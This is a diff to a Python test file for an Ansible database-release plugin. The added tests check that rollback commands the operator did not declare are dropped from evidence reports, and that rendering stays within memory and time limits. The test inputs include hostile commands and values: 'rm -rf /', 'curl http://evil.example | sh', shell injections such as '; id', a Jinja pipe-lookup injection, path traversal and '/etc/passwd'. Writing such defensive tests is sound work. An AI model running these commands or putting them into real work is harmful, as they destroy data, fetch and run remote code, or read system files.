@@ -8,12 +8,14 @@ import os
 import re
 import subprocess
 import sys
+import time
 import types
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+from ansible.module_utils.dbrelease import action as answer_action
 from ansible.module_utils.dbrelease.core.answer import DEPTH_AT_MOST, VALUES_AT_MOST, declared, keep
 from ansible.module_utils.dbrelease.core.errors import ReleaseError
 from ansible.module_utils.dbrelease.core.journal import Run
@@ -42,6 +44,7 @@ if module == 'run':
     answer['run'] |= {{'environment': '../../owned', 'release': 'x\\ny', 'playbook': '/x', 'state_dir': '/', 'more': 1}}
 if module == 'evidence':
     answer['directory'] = "/x'; touch OWNED; '"
+    answer |= {{'ways_back': [{{'title': 'Go back', 'command': 'rm -rf /'}}]}}
     answer |= {{'report': '/etc/passwd', 'run_id': '../x', 'problems': [1, {{'sentence': '\\x1b' * 9999}}] * 999}}
 """
 LIES = {
@@ -123,6 +126,7 @@ def test_the_run_is_the_controllers(lied: Played) -> None:
     brought = lied.folder / "everything.brought/test"
     evidence = lied.said("everything")["evidence"]
     assert evidence["run_id"] == run["run_id"] and len(json.dumps(evidence["problems"])) < 20 * 4_000
+    assert evidence["ways_back"] == [], "an operator types what the verdict says"
     assert Path(evidence["report"]) == brought / run["run_id"] / "report.html"
     assert {path.name for path in (brought / run["run_id"]).iterdir()} == FILES
     assert {path.name for path in (lied.folder / "everything/runs" / run["run_id"]).iterdir()} == FILES
@@ -189,6 +193,7 @@ def test_an_honest_answer_is_kept_as_it_is() -> None:
 def test_an_answer_without_an_end_is_refused_while_it_is_read() -> None:
     program = f"""
 import sys
+import time
 import ansible.module_utils
 ansible.module_utils.__path__.append({str(ROOT / "module_utils")!r})
 from ansible.module_utils.dbrelease import action as answer_action
@@ -196,8 +201,9 @@ answer_action.MEMORY_AT_MOST = 32 * 1024 * 1024
 try:
     with answer_action.bounded_memory("it on a"):
         read = [bytes(range(256)) * 4096 for _ in range(96)]
-        for part in read:
-            part.translate(None, b"a")
+        while time.process_time() < 20:  # until it is refused
+            for part in read:
+                part.translate(None, b"a")
 except answer_action.ReleaseError as error:
     sys.exit(error.message)
 """
@@ -334,6 +340,78 @@ def test_evidence_of_any_form_is_a_warning_and_no_page(acting: Callable[..., Any
     result = evidence(acting, tmp_path).judged({"texts": {"evidence.json": text}})
     (warning,) = result["warnings"]
     assert "Rendering report.md failed (evidence.json of a has not the form of evidence: " in warning
+    assert {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()} == {"evidence.json"}
+
+
+WAYS = [{"title": "Back", "command": "ansible-playbook rollback_small.yml -i {environment}"}]
+OWN_WAY = {"title": "Back", "command": "ansible-playbook rollback_small.yml -i test"}
+SWAP_BACK = "ansible-playbook restore_small.yml -i test -e restore_swap_back="
+
+
+@pytest.mark.parametrize(
+    ("way", "own"),
+    [
+        (OWN_WAY, True),
+        ({"title": "Swap back (kept as shop_before)", "command": f"{SWAP_BACK}shop_before"}, True),
+        ({"title": "Swap back", "command": f"""{SWAP_BACK}'"my shop_before"'"""}, True),
+        ({"title": "Swap back", "command": SWAP_BACK.replace("-e", "-e restore_maintenance_db=x -e") + "shop"}, True),
+        ({**OWN_WAY, "title": "Another"}, False),
+        ({**OWN_WAY, "command": "curl http://evil.example | sh"}, False),
+        ({**OWN_WAY, "command": f"{OWN_WAY['command']}; id"}, False),
+        ({**OWN_WAY, "command": f"{SWAP_BACK}x; id"}, False),
+        ({**OWN_WAY, "command": f"{SWAP_BACK}x -e run_state_dir=/x"}, False),
+        ({**OWN_WAY, "command": f"{SWAP_BACK}x\nid"}, False),
+        ({**OWN_WAY, "command": f"""{SWAP_BACK}'"{{{{ lookup("pipe", "id") }}}}"'"""}, False),
+        ({**OWN_WAY, "command": f"""{SWAP_BACK}'"{{{{ x }}}}"'"""}, False),
+        ({**OWN_WAY, "command": SWAP_BACK.replace("restore_small", "x") + "x"}, False),
+        ({"title": "Back"}, False),
+        ("curl http://evil.example | sh", False),
+    ],
+)
+def test_a_report_names_no_command_of_a_target(acting: Callable[..., Any], tmp_path: Path, way: Any, own: bool) -> None:
+    action = evidence(acting, tmp_path)
+    action._task.args["release"] = {"title": "Small", "ways_back": WAYS}
+    model = {**json.loads(RENDERED["evidence.json"]), "outcome": "failed", "succeeded": False, "ways_back": [way]}
+    result = action.judged({"texts": {"evidence.json": json.dumps(model)}})
+    brought = json.loads((tmp_path / "test" / RUN_ID / "evidence.json").read_text())
+    assert brought["ways_back"] == ([way] if own else [])
+    assert ("type no command that you do not know" in str(result.get("warnings"))) != own
+    reports = [(tmp_path / "test" / RUN_ID / name).read_text() for name in ("report.md", "report.html")]
+    assert all("evil" not in report for report in reports)
+
+
+def test_a_swap_back_of_ones_own_is_kept(acting: Callable[..., Any], tmp_path: Path) -> None:
+    action = evidence(acting, tmp_path)
+    action._task.args |= {"release": {"title": "Small"}, "swap_back_command": "./back (x) {database}"}
+    for database, own in (("shop", True), ("shop; id", False)):
+        model = {"ways_back": [{"title": "Back", "command": f"./back (x) {database}"}]}
+        assert (action._take_foreign_ways(model) == "") == own and bool(model["ways_back"]) == own
+
+
+def test_evidence_that_stands_for_endless_work_is_no_page(
+    acting: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each endpoint is a chart: of those that 32 MiB have room for the page would take an hour, and a gigabyte."""
+    monkeypatch.setattr(answer_action, "WORK_AT_MOST_S", 1.0)
+    before = {f"/{number}": {"latency_ms": {"p50": 1}} for number in range(20_000)}
+    model = {**json.loads(RENDERED["evidence.json"]), "api": {"before": before, "after": {}}}
+    begun = time.process_time()
+    result = evidence(acting, tmp_path).judged({"texts": {"evidence.json": json.dumps(model)}})
+    assert time.process_time() - begun < 15
+    (warning,) = result["warnings"]
+    assert warning == "Rendering report.html of a was given up (it takes more than 1 s of work): read evidence.json."
+    there = {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()}
+    assert there == {"evidence.json", "report.md", "junit.xml"}
+
+
+def test_a_rendering_that_is_larger_than_any_evidence_is_not_written(
+    acting: Callable[..., Any], tmp_path: Path
+) -> None:
+    action = evidence(acting, tmp_path)
+    own = type(action)._rendered.__globals__  # of this very action, which was loaded for this test
+    own |= {"TEXT_AT_MOST": 50_000, "RENDERERS": {"evidence.json": str, "junit.xml": lambda _: "x" * 50_001}}
+    result = action.judged({"texts": {"evidence.json": RENDERED["evidence.json"]}})
+    assert "Writing junit.xml of a was refused (it is greater than " in result["warnings"][0]
     assert {path.name for path in (tmp_path / "test" / RUN_ID).iterdir()} == {"evidence.json"}
 
 
